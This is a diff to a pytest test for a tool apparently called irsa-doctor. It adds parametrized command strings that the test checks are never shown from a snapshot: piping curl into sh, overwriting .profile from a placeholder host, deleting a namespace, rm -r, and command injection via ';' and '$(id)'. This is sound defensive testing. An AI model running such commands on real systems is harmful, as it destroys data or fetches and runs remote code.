@@ -291,7 +291,13 @@ def gaps_read_again(tmp_path, how):
 
 
 @pytest.mark.parametrize(
-    "how", ["aws iam list-roles; id", "kubectl delete namespace shop", "x\nid", "run $(id)", "curl made-up | sh"]
+    "how",
+    [
+        *("aws iam list-roles; id", "kubectl delete namespace shop", "x\nid", "run $(id)", "curl made-up | sh"),
+        *("'kubectl' get pods --server=https://made-up.example", "kubectl\tget pods --kubeconfig made-up"),
+        *(" aws iam list-roles --endpoint-url http://made-up", "sudo kubectl delete namespace shop", "/bin/rm -r made-up"),
+        "curl\t-o .profile https://made-up.example/keys",
+    ],
 )
 def test_a_command_that_somebody_wrote_into_a_snapshot_is_not_shown(tmp_path, how):
     assert gaps_read_again(tmp_path, how) == ["read it again with irsa-doctor collect"]
